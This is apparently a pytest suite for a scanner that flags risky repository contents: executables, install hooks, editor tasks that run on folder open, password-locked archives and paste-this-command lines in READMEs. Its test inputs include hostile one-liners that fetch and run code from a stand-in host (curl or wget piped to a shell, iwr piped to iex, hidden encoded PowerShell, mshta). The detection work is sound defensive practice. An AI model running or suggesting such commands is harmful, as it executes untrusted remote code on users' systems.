import io
import json
import struct
import zipfile

import pytest

from monitors.dangers import LOOKED_INTO, MOST, find

PE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0"


def warnings(files):
    def read(paths):
        yield from ((path, files[path]) for path in paths if path in files)

    return [str(danger) for danger in find(list(files), read)]


def archive(name, content=b"x", *, locked=False):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as made:
        made.writestr(name, content)
    data = bytearray(packed.getvalue())
    if locked:
        data[6] |= 1
        data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


@pytest.mark.parametrize(
    ("path", "warning"),
    [
        ("bin/Setup.EXE", "executable: bin/Setup.EXE (runs on Windows)"),
        ("a.scr", "executable: a.scr (runs on Windows)"),
        ("run.ps1", "executable: run.ps1 (runs on Windows)"),
        ("x.lnk", "executable: x.lnk (runs on Windows)"),
        ("tool.jar", "executable: tool.jar (runs on Java)"),
        ("App.dmg", "executable: App.dmg (runs on macOS)"),
        ("app.apk", "executable: app.apk (runs on Android)"),
        ("all.iso", "executable: all.iso (is a disk that may start programs)"),
    ],
)
def test_a_program_is_known_by_its_name(path, warning):
    assert warnings({path: b""}) == [warning]


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (PE, "a program of Windows"),
        (b"\x7fELF\x02\x01\x01" + bytes(60), "an ELF program of Linux"),
        (b"\xcf\xfa\xed\xfe" + bytes(60), "a program of macOS"),
        (b"\xca\xfe\xba\xbe\0\0\0\x02" + bytes(60), "a program of macOS"),
        (b"\xca\xfe\xba\xbe\0\0\x00\x41" + bytes(60), "a class of Java"),
    ],
)
def test_a_program_is_known_by_its_first_bytes_whatever_it_is_called(content, kind):
    assert warnings({"data": content}) == [f"executable: data ({kind})"]
    assert warnings({"logo.png": content}) == [f"executable: logo.png ({kind})"]


def test_text_that_begins_like_a_program_is_none():
    assert warnings({"notes": b"MZ is how programs of Windows begin." * 3}) == []


@pytest.mark.parametrize("name", ["preinstall", "install", "postinstall"])
def test_scripts_that_npm_runs_by_itself_are_told_with_their_command(name):
    manifest = json.dumps({"scripts": {name: "node  setup.js\n", "test": "jest", "build": "tsc"}}).encode()

    assert warnings({"package.json": manifest}) == [f"install script: package.json ({name}: node setup.js)"]


@pytest.mark.parametrize("name", ["prepublish", "prepare"])
def test_a_script_that_npm_runs_for_git_is_told_as_such(name):
    manifest = json.dumps({"scripts": {name: "node setup.js"}}).encode()

    assert warnings({"package.json": manifest}) == [
        f"install script: package.json ({name}, when installed from git: node setup.js)"
    ]


@pytest.mark.parametrize(
    ("path", "detail"),
    [
        ("a/build.rs", "is run by cargo when the crate is built"),
        ("ext/a/extconf.rb", "is run when the gem is installed"),
    ],
)
def test_what_a_builder_runs_is_told(path, detail):
    assert warnings({path: b"", f"{path}.md": b""}) == [f"install script: {path} ({detail})"]


def test_a_task_that_an_editor_runs_on_opening_is_told():
    task = b'{"tasks": [{"command": "node .x.js", // why\n "runOptions": {"runOn": "%s"}}]}'

    assert warnings({".vscode/tasks.json": task % b"default"}) == []
    assert warnings({"a/.vscode/tasks.json": task % b"folderOpen"}) == [
        "install script: a/.vscode/tasks.json (is run by an editor that opens the folder: node .x.js)"
    ]


def test_npm_builds_a_binding_unless_told_otherwise():
    built = {"package.json": b"{}", "binding.gyp": b"{}"}
    told = built | {"package.json": b'{"scripts": {"install": "true"}}'}

    assert warnings(built) == ["install script: binding.gyp (is built by npm when the package is installed)"]
    assert warnings(told) == ["install script: package.json (install: true)"]


def test_a_setup_that_does_more_than_describe_is_told():
    plain = b"from setuptools import setup\nsetup(name='x')\n"

    assert warnings({"setup.py": plain}) == []
    assert warnings({"setup.py": plain + b"import os\nos.system('id')\n"}) == [
        "install script: setup.py (runs code when installed: os.system)"
    ]


@pytest.mark.parametrize(
    "command",
    [
        "curl -fsSL https://evil.test/i.sh | sudo bash",
        "wget -qO- evil.test/x | sh",
        'bash -c "$(curl -fsSL https://evil.test)"',
        "bash <(curl -s https://evil.test)",
        "iwr https://evil.test/a.ps1 | iex",
        "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A",
        "echo aWQK | base64 -d | sh",
        "mshta https://evil.test/a.hta",
    ],
)
def test_a_readme_that_has_people_paste_a_command_is_told(command):
    assert warnings({"README.md": f"Run this:\n\n    {command}\n".encode()})[0].startswith(
        "command to paste: README.md ("
    )


def test_an_ordinary_readme_is_no_danger():
    text = b"Install it with `npm install x`, or read it: `curl https://example.test/data.json`. See [sh](a)."

    assert warnings({"README.md": text, "LICENSE": b"MIT", "index.js": b"1"}) == []


def test_a_locked_archive_is_told_with_the_password_that_is_given_for_it():
    files = {"Release.zip": archive("a.txt", locked=True), "README.md": b"Download. Password: **leak2026**"}

    assert warnings(files) == [
        "locked archive: Release.zip (asks for a password, so no scanner sees its inside)",
        "locked archive: README.md (gives the password leak2026)",
    ]


def test_an_archive_is_looked_at_by_its_list_of_names():
    assert warnings({"Release.zip": archive("bin/run.exe")}) == [
        "executable: Release.zip/bin/run.exe (runs on Windows)"
    ]
    assert warnings({"notes.zip": archive("a.txt")}) == []


@pytest.mark.parametrize("magic", [b"Rar!\x1a\x07\x01\0", b"7z\xbc\xaf\x27\x1c"])
def test_an_archive_that_cannot_be_seen_into_is_told(magic):
    assert warnings({"x.bin": magic + bytes(50)}) == [
        "locked archive: x.bin (an archive whose inside could not be seen)"
    ]


def test_programs_come_first_and_no_more_than_a_page_of_them():
    files = {f"{n}.exe": b"" for n in range(200)} | {"package.json": b'{"scripts": {"install": "x"}}'}

    found = warnings({"package.json": files["package.json"], "a.exe": b""})

    assert [warning.partition(":")[0] for warning in found] == ["executable", "install script"]
    assert len(warnings(files)) == MOST


def test_no_more_files_are_read_than_are_needed():
    asked = []

    def read(paths):
        asked.extend(paths)
        yield from ((path, b"") for path in paths)

    find([f"blob{n}" for n in range(1000)] + ["a.js", "b.exe"], read)

    assert len(asked) == LOOKED_INTO
